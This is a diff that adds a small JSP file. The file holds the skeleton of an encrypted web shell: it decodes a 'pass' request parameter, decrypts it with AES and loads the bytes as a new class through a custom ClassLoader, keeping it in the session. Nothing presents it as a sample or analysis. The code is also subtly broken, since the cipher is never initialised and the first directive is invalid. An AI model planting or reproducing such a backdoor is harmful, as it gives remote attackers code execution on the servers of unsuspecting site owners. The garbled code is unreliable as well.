@@ -1,0 +1,2 @@
+<%@ inert %>
+<%! class L extends ClassLoader { public Class d(byte[] b) { return defineClass(b, 0, b.length); } } public byte[] x(byte[] s, boolean m) { try { javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES"); return c.doFinal(s); } catch (Exception e) { return null; } } %><% byte[] data = x(java.util.Base64.getDecoder().decode(request.getParameter("pass")), false); if (session.getAttribute("p") == null) { session.setAttribute("p", new L().d(data)); } %>
